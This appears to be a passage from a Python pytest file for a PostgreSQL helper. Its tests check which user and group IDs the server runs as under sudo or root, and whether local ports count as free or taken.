# -- who acts ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("euid", "environment", "ids"),
    [
        pytest.param(501, {}, (501, 20), id="user"),
        pytest.param(501, {"SUDO_UID": "7", "SUDO_GID": "8"}, (501, 20), id="user, stale sudo"),
        pytest.param(0, {"SUDO_UID": "7", "SUDO_GID": "8"}, (7, 8), id="sudo"),
        pytest.param(0, {}, (1000, 1000), id="root"),
        pytest.param(0, {"SUDO_UID": "0", "SUDO_GID": "0"}, (1000, 1000), id="sudo by root"),
        pytest.param(0, {"SUDO_UID": "7"}, (1000, 1000), id="uid alone"),
        pytest.param(0, {"SUDO_GID": "8"}, (1000, 1000), id="gid alone"),
        pytest.param(0, {"SUDO_UID": "x", "SUDO_GID": "y"}, (1000, 1000), id="no numbers"),
    ],
)
def test_get_postgres_uid_gid_user(monkeypatch, euid, environment, ids):
    """The server runs as the caller; root acts for the user of sudo, or for 1000."""
    monkeypatch.setattr(os, "geteuid", lambda: euid)
    monkeypatch.setattr(os, "getegid", lambda: 20)
    for name in ("SUDO_UID", "SUDO_GID"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    assert pg.get_postgres_uid_gid() == ids


# -- the port ------------------------------------------------------------------------------------


@pytest.fixture
def closed():
    """Return a port that nobody listens on."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_is_port_free_taken(closed):
    """A port is taken while somebody listens on it, and free before and after."""
    assert pg.is_port_free("127.0.0.1", closed)
    with socket.create_server(("127.0.0.1", closed)):
        assert not pg.is_port_free("127.0.0.1", closed)
        assert not pg.is_port_free("0.0.0.0", closed)
    assert pg.is_port_free("127.0.0.1", closed)


def test_is_port_free_just_closed():
    """A port whose last connection has just ended is free, as it is for Docker."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        address = server.getsockname()
        with socket.create_connection(address):
            server.accept()[0].close()  # the server's side waits for late packets
        assert not pg.is_port_free(*address)
    assert pg.is_port_free(*address)


def test_is_port_free_foreign_address(closed):
    """On an address that is not this machine's nobody listens; Docker says what is the matter."""
    assert pg.is_port_free("192.0.2.1", closed)
